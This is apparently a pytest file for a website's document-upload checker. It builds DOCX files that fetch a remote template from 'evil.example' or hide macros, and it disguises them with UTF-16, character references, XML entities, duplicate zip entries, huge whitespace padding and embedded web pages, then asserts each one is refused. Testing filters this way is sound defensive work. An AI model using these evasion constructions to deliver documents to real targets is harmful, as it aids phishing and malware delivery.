"""Files that an editor was sent and passes on: dressed so that whoever looks sees less than whoever opens them."""

import io
import warnings
import zipfile

import pytest

from steward.website.uploads import documents
from steward.website.uploads.kept import Refused

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
FETCH = f'<Relationships><Relationship TargetMode="External" Target="http://evil.example/a" Type="{REL}%s"/></Relationships>'
ODT = {"mimetype": "application/vnd.oasis.opendocument.text"}
TEMPLATE = FETCH % "attachedTemplate"


def packed(*contents: tuple[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as into, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of two entries of one name, which is the attack
        for name, data in contents:
            into.writestr(name, data)
    return out.getvalue()


def a_docx(*more: tuple[str, bytes | str], types: str = TYPES) -> bytes:
    return packed(("[Content_Types].xml", types), ("word/document.xml", "<w/>"), *more)


SETTINGS = "word/_rels/settings.xml.rels"
HOSTILE = {
    "the kind of a relationship after its mode": a_docx((SETTINGS, TEMPLATE)),
    "letters of two bytes": a_docx((SETTINGS, TEMPLATE.encode("utf-16"))),
    "a letter as a number": a_docx((SETTINGS, TEMPLATE.replace("External", "&#69;xternal"))),
    "a picture of another website": a_docx(("word/_rels/document.xml.rels", FETCH % "image")),
    "twenty million spaces before": a_docx((SETTINGS, TEMPLATE.replace("><", ">" + " " * 20_000_000 + "<", 1))),
    "two files of one name": a_docx((SETTINGS, TEMPLATE), (SETTINGS, "<Relationships/>")),
    "an entity": a_docx((SETTINGS, '<!DOCTYPE r [<!ENTITY m "External">]>' + TEMPLATE.replace("External", "&m;"))),
    "macros under another name": a_docx(
        ("word/theme9.xml", b"x"),
        types=TYPES.replace(
            "</Types>", '<Override PartName="/word/theme9.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        ),
    ),
    "a web page inside": a_docx(("word/chunk.mht", b"x")),
}


@pytest.mark.parametrize("how", HOSTILE)
def test_a_document_that_fetches_or_runs_something_is_refused_however_it_is_dressed(how: str) -> None:
    with pytest.raises(Refused):
        documents.look_at("letter.docx", HOSTILE[how])


def test_a_link_in_a_document_is_no_harm() -> None:
    data = a_docx(("word/_rels/document.xml.rels", FETCH % "hyperlink"))
    assert documents.look_at("letter.docx", data).read() == data
